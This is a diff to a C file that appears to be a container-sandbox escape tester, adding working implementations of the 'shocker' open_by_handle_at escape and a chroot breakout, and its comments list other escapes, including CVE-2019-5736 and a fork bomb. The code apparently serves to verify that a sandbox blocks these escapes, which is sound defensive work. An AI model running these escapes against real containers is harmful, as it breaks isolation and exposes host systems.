@@ -7,7 +7,8 @@
  * detour to /proc/PID/exe (CVE-2019-5736), raw calls through the i386 and
  * x32 entries (including i386 socketcall, whose arguments a filter cannot
  * read), process_vm_writev and pidfd_getfd into pid 1, masked directories,
- * host devices through mknod, and a real fork bomb.
+ * host devices through mknod, open_by_handle_at ("shocker"), a chroot
+ * breakout, and a real fork bomb.
  *
  *   escape_kernel TRY [ARG] [TRY [ARG]...]
  *
@@ -311,6 +312,80 @@ static int t_mknod_open(const char *a)
 	return open_err ? open_err : err;
 }
 
+/* ---- leaving the root: file handles and chroot ------------------------- */
+
+/* Room for a struct file_handle and the largest handle, zeroed. */
+static struct file_handle *handle_buf(void)
+{
+	static _Alignas(struct file_handle) unsigned char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
+	memset(buf, 0, sizeof buf);
+	return (struct file_handle *)buf;
+}
+
+/* "handle PATH": print PATH's file handle as TYPE:HEX (for the caller, on
+ * the host, to hand to a container). ok when it has one. */
+static int t_handle(const char *a)
+{
+	struct file_handle *fh = handle_buf();
+	unsigned char *bytes = (unsigned char *)(fh + 1); /* f_handle[] */
+	int mount_id;
+	fh->handle_bytes = MAX_HANDLE_SZ;
+	if (syscall(SYS_name_to_handle_at, AT_FDCWD, a ? a : "/", fh, &mount_id, 0) < 0)
+		return errno;
+	printf("handle: %d:", fh->handle_type);
+	for (unsigned i = 0; i < fh->handle_bytes; i++)
+		printf("%02x", bytes[i]);
+	printf("\n");
+	return 0;
+}
+/* The "shocker" escape (Docker 0.11): open_by_handle_at with a handle of a
+ * host directory outside the root, on the container's "/" as mount fd
+ * (the same file system when the root is a directory of it). ARG TYPE:HEX. */
+static int t_shocker(const char *a)
+{
+	struct file_handle *fh = handle_buf();
+	unsigned char *bytes = (unsigned char *)(fh + 1); /* f_handle[] */
+	const char *hex = a ? strchr(a, ':') : NULL;
+	if (!hex)
+		return EINVAL;
+	fh->handle_type = atoi(a);
+	for (hex++; hex[0] && hex[1] && fh->handle_bytes < MAX_HANDLE_SZ; hex += 2) {
+		unsigned byte;
+		sscanf(hex, "%2x", &byte);
+		bytes[fh->handle_bytes++] = (unsigned char)byte;
+	}
+	int root = open("/", O_RDONLY | O_DIRECTORY);
+	int fd = (int)syscall(SYS_open_by_handle_at, root, fh, O_RDONLY | O_DIRECTORY);
+	if (fd < 0)
+		return errno;
+	char buf[4096] = "?";
+	char self[64];
+	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+	ssize_t n = readlink(self, buf, sizeof buf - 1);
+	buf[n > 0 ? n : 1] = '\0';
+	printf("shocker: opened %s\n", buf);
+	return 0;
+}
+/* The classic chroot breakout: chroot into a subdirectory while keeping
+ * the cwd above it, climb "..", chroot("."). Then ARG (a host path outside
+ * the container's root) must still be out of reach. ok if it opens. */
+static int t_chroot_break(const char *a)
+{
+	mkdir("/tmp/escape-jail", 0700);
+	if (chroot("/tmp/escape-jail") < 0)
+		return errno;
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") < 0)
+			return errno;
+	if (chroot(".") < 0)
+		return errno;
+	int fd = open(a ? a : "/", O_RDONLY);
+	if (fd < 0)
+		return errno;
+	close(fd);
+	return 0;
+}
+
 /* ---- /proc/PID/exe (CVE-2019-5736) -------------------------------------- */
 
 /* The O_PATH detour: an O_PATH fd on the exe (no write check at open),
@@ -551,6 +626,8 @@ static const struct try tries[] = {
 	{ "pvm_write", 1, t_pvm_write },       { "pidfd_getfd", 1, t_pidfd_getfd },
 	{ "listdir", 1, t_listdir },           { "setns_pidfd", 1, t_setns_pidfd },
 	{ "setns_path", 1, t_setns_path },     { "mknod_open", 1, t_mknod_open },
+	{ "handle", 1, t_handle },             { "shocker", 1, t_shocker },
+	{ "chroot_break", 1, t_chroot_break },
 };
 
 static const struct try *find(const char *name)
